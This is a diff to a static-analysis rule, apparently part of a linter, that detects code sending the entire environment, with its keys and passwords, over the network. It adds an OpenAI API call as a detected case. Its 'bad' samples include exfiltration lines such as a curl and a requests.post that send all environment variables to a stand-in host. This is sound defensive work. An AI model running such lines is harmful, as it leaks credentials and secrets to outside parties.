@@ -31,6 +31,7 @@ RULE: Final = Rule(
     message="All of the environment is sent over the network, with every key and password in it.",
     remedy='Send only the value that is needed: os.environ["NAME"].',
     bad=(
+        'import os, openai\nopenai.OpenAI().responses.create(input=f"Explain {dict(os.environ)}")',
         'import os, requests\nrequests.post("https://a.org", json=dict(os.environ))',
         'import os, requests\nsecrets = {k: v for k, v in os.environ.items()}\nrequests.post("https://a.org", data=secrets)',
         '!curl -d "$(env)" https://a.org',
@@ -49,6 +50,7 @@ RULE: Final = Rule(
         + " urllib.request.urlopen urllib.request.Request",
         _check,
     ),
-    methods=on("sendall send sendto", lambda call, state: _check(call, state) if "sock" in call.name.lower() else None),
+    methods={"create": _check}
+    | on("sendall send sendto", lambda call, state: _check(call, state) if "sock" in call.name.lower() else None),
     command=_command,
 )
